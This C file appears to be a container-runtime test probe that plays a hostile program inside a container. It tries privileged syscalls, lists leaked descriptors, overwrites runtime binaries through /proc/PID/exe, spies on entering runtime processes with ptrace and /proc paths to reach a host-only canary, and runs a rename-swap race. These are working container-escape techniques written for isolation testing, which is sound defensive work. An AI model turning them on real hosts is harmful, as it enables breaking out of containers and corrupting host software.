/* What a hostile program in a container tries. Static, so that it runs in any root. One command a run; see main. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* `name 0` when the kernel did it, else `name` and the name of the refusal. */
static void say(const char *name, long result) {
  const char *why = result < 0 ? strerrorname_np(errno) : "0";
  printf("%s %s\n", name, why ? why : "?");
}

/* In a child, since what succeeds would change the rest. */
static void in_child(const char *name, long (*attempt)(void)) {
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    say(name, attempt());
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  if (WIFSIGNALED(status)) printf("%s signal-%d\n", name, WTERMSIG(status));
}

static long clone_flags(unsigned long flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return pid;
}
static long clone_newuser(void) { return clone_flags(CLONE_NEWUSER); }
static long clone_newns(void) { return clone_flags(CLONE_NEWNS); }
static long clone_plain(void) { return clone_flags(0); }
static long clone3_call(void) { return syscall(SYS_clone3, NULL, 0); }
static long clone3_newuser(void) {
  struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, rest[6]; } args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
  long pid = syscall(SYS_clone3, &args, sizeof args);
  if (pid == 0) _exit(0);
  return pid;
}
static long unshare_newuser(void) { return unshare(CLONE_NEWUSER); }
static long unshare_newns(void) { return unshare(CLONE_NEWNS); }
static long unshare_newnet(void) { return unshare(CLONE_NEWNET); }
static long setns_call(void) {
  int fd = open("/proc/self/ns/uts", O_RDONLY);
  return setns(fd, 0);
}
static long mount_call(void) { return mount("none", "/tmp", "tmpfs", 0, NULL); }
static long mount_cgroup(void) { return mount("none", "/tmp", "cgroup", 0, "memory"); }
static long umount_call(void) { return umount2("/proc", MNT_DETACH); }
static long remount_call(void) { return mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static long pivot_call(void) { return syscall(SYS_pivot_root, ".", "."); }
static long fsopen_call(void) { return syscall(SYS_fsopen, "tmpfs", 0); }
static long fsconfig_call(void) { return syscall(SYS_fsconfig, 0, 0, NULL, NULL, 0); }
static long fsmount_call(void) { return syscall(SYS_fsmount, 0, 0, 0); }
static long open_tree_call(void) { return syscall(SYS_open_tree, AT_FDCWD, "/", 1); }
static long move_mount_call(void) { return syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/root", 0); }
static long mount_setattr_call(void) {
  uint64_t attr[4] = {0};
  return syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attr, sizeof attr);
}
static long keyctl_call(void) { return syscall(SYS_keyctl, 0, -3, 0, 0, 0); }
static long add_key_call(void) { return syscall(SYS_add_key, "user", "a", "b", 1, -3); }
static long request_key_call(void) { return syscall(SYS_request_key, "user", "a", NULL, -3); }
static long bpf_call(void) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = attr.value_size = 4;
  attr.max_entries = 1;
  return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
}
static long io_uring_call(void) {
  char params[256] = {0};
  return syscall(SYS_io_uring_setup, 1, params);
}
static long userfaultfd_call(void) { return syscall(SYS_userfaultfd, O_CLOEXEC); }
static long perf_call(void) {
  struct perf_event_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.size = sizeof attr;
  attr.type = PERF_TYPE_SOFTWARE;
  return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}
static long by_handle_call(void) {
  struct { struct file_handle head; char rest[128]; } handle;
  handle.head.handle_bytes = 8;
  handle.head.handle_type = 1;
  memset(handle.head.f_handle, 0, 8);
  handle.head.f_handle[0] = 2;
  return open_by_handle_at(AT_FDCWD, &handle.head, O_RDONLY);
}
static long socket_alg(void) { return socket(38, SOCK_SEQPACKET, 0); }
static long socket_vsock(void) { return socket(AF_VSOCK, SOCK_STREAM, 0); }
static long socket_unix(void) { return socket(AF_UNIX, SOCK_STREAM, 0); }
static long socket_netfilter(void) { return socket(AF_NETLINK, SOCK_RAW, 12); }
static long kexec_call(void) { return syscall(SYS_kexec_load, 0, 0, NULL, 0); }
static long init_module_call(void) { return syscall(SYS_init_module, NULL, 0, ""); }
static long delete_module_call(void) { return syscall(SYS_delete_module, "none", 0); }
static long reboot_call(void) { return syscall(SYS_reboot, 0, 0, 0, NULL); }
static long swapon_call(void) { return syscall(SYS_swapon, "/none", 0); }
static long settime_call(void) { return syscall(SYS_clock_settime, 0, NULL); }
static long acct_call(void) { return syscall(SYS_acct, NULL); }
static long quotactl_call(void) { return syscall(SYS_quotactl, 0, NULL, 0, NULL); }
static long sethostname_call(void) { return sethostname("taken", 5); }
static long syslog_call(void) { return syscall(SYS_syslog, 3, NULL, 0); }
static long fanotify_call(void) { return syscall(SYS_fanotify_init, 0, 0); }
static long newest_call(void) { return syscall(4000); }

static const struct {
  const char *name;
  long (*attempt)(void);
} CALLS[] = {
    {"clone", clone_plain},
    {"clone-newuser", clone_newuser},
    {"clone-newns", clone_newns},
    {"clone3", clone3_call},
    {"clone3-newuser", clone3_newuser},
    {"unshare-newuser", unshare_newuser},
    {"unshare-newns", unshare_newns},
    {"unshare-newnet", unshare_newnet},
    {"setns", setns_call},
    {"mount", mount_call},
    {"mount-cgroup", mount_cgroup},
    {"remount", remount_call},
    {"umount2", umount_call},
    {"pivot_root", pivot_call},
    {"fsopen", fsopen_call},
    {"fsconfig", fsconfig_call},
    {"fsmount", fsmount_call},
    {"open_tree", open_tree_call},
    {"move_mount", move_mount_call},
    {"mount_setattr", mount_setattr_call},
    {"keyctl", keyctl_call},
    {"add_key", add_key_call},
    {"request_key", request_key_call},
    {"bpf", bpf_call},
    {"io_uring_setup", io_uring_call},
    {"userfaultfd", userfaultfd_call},
    {"perf_event_open", perf_call},
    {"open_by_handle_at", by_handle_call},
    {"socket-alg", socket_alg},
    {"socket-vsock", socket_vsock},
    {"socket-unix", socket_unix},
    {"socket-netfilter", socket_netfilter},
    {"kexec_load", kexec_call},
    {"init_module", init_module_call},
    {"delete_module", delete_module_call},
    {"reboot", reboot_call},
    {"swapon", swapon_call},
    {"clock_settime", settime_call},
    {"acct", acct_call},
    {"quotactl", quotactl_call},
    {"sethostname", sethostname_call},
    {"syslog", syslog_call},
    {"fanotify_init", fanotify_call},
    {"newest", newest_call},
};

/* What succeeds here unmounts and renames things: only in a root made for it. */
static int system_calls(void) {
  if (access("/probe-may-try", F_OK) != 0) return 3;
  for (size_t i = 0; i < sizeof CALLS / sizeof *CALLS; i++) in_child(CALLS[i].name, CALLS[i].attempt);
  return 0;
}

/* Every number up to the limit is asked for, so that nothing depends on what /proc shows. */
static int descriptors(void) {
  char link[64], target[4096];
  for (int fd = 0; fd < 65536; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    printf("%d %s\n", fd, target);
  }
  return 0;
}

/* The file behind every process's program, opened for writing by way of a descriptor that outlives the process. */
static int overwrite(const char *mark) {
  char path[64];
  int held[64];
  unsigned count = 0;
  for (int round = 0; round < 200000 && count < 64 && access("/stop", F_OK) != 0; round++) {
    for (int pid = 2; pid < 400 && count < 64; pid++) {
      if (pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat mine, theirs;
      if (stat("/proc/self/exe", &mine) == 0 && fstat(fd, &theirs) == 0 && mine.st_ino == theirs.st_ino && mine.st_dev == theirs.st_dev) close(fd);
      else held[count++] = fd;
    }
    usleep(200);
  }
  for (unsigned i = 0; i < count; i++) {
    char target[256];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    int fd = open(path, O_WRONLY | O_TRUNC);
    long written = fd < 0 ? -1 : write(fd, mark, strlen(mark));
    printf("%s ", target);
    say("write", written);
    if (fd >= 0) close(fd);
  }
  return 0;
}

/* Who this is and what it may: ids, and the capability sets as /proc shows them. */
static int status(void) {
  char line[256];
  FILE *file = fopen("/proc/self/status", "re");
  printf("ids %u %u %u\n", getuid(), geteuid(), getegid());
  while (file && fgets(line, sizeof line, file)) {
    if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10)) fputs(line, stdout);
  }
  return 0;
}

static bool opens(const char *format, int pid, int number, const char *rest) {
  char path[512];
  snprintf(path, sizeof path, format, pid, number);
  strncat(path, rest, sizeof path - strlen(path) - 1);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

/* Is `pid` still the runtime that enters, not the program it has become? */
static bool runs_runtime(int pid) {
  char path[64], target[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t size = readlink(path, target, sizeof target - 1);
  target[size < 0 ? 0 : size] = 0;
  return strstr(target, "slipway-launcher") || strstr(target, "runc");
}

/* The permitted capabilities of `pid` as text. */
static void permitted(int pid, char *text, size_t size) {
  char path[64], line[128];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *file = fopen(path, "re");
  *text = 0;
  while (file && fgets(line, sizeof line, file)) {
    if (!strncmp(line, "CapPrm:", 7)) snprintf(text, size, "%s", line + 7);
  }
  if (file) fclose(file);
}

/*
 * Looks into every process that comes up in this pid namespace until /stop exists and counts what it could reach of one
 * that enters from outside: `canary` is a file that exists on the host alone, `raised` counts those traced with more privileges.
 */
static int spy(const char *canary) {
  unsigned met = 0, root = 0, cwd = 0, fd = 0, exe = 0, raised = 0;
  char own[64], others[64];
  permitted(getpid(), own, sizeof own);
  puts("watching");
  while (access("/stop", F_OK) != 0) {
    for (int pid = 2; pid < 2000; pid++) {
      char path[64], name[64];
      if (pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      int comm = open(path, O_RDONLY | O_CLOEXEC);
      if (comm < 0) continue;
      ssize_t size = read(comm, name, sizeof name - 1);
      close(comm);
      name[size > 0 ? size - 1 : 0] = 0;
      if (strncmp(name, "slipway-", 8) != 0 && strncmp(name, "runc", 4) != 0) continue;
      met++;
      root += opens("/proc/%d/root", pid, 0, canary);
      cwd += opens("/proc/%d/cwd", pid, 0, canary);
      for (int number = 0; number < 16; number++) fd += opens("/proc/%d/fd/%d/../../../../../..", pid, number, canary);
      exe += runs_runtime(pid);
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) continue;
      ptrace(PTRACE_INTERRUPT, pid, 0, 0);
      waitpid(pid, NULL, __WALL);
      permitted(pid, others, sizeof others);
      raised += runs_runtime(pid) && strcmp(own, others) != 0;
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
  }
  printf("met %u root %u cwd %u fd %u exe %u raised %u\n", met, root, cwd, fd, exe, raised);
  return 0;
}

/* Exchanges two names over and over until it is killed. */
static int swap(char **names) {
  for (;;) {
    if (syscall(SYS_renameat2, AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) < 0 && errno != ENOENT) usleep(1000);
  }
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 2 && !strcmp(argv[1], "calls")) return system_calls();
  if (argc == 2 && !strcmp(argv[1], "descriptors")) return descriptors();
  if (argc == 3 && !strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
  if (argc == 2 && !strcmp(argv[1], "status")) return status();
  if (argc == 3 && !strcmp(argv[1], "spy")) return spy(argv[2]);
  if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv + 2);
  fprintf(stderr, "probe calls | descriptors | overwrite MARK | status | spy CANARY | swap A B\n");
  return 2;
}
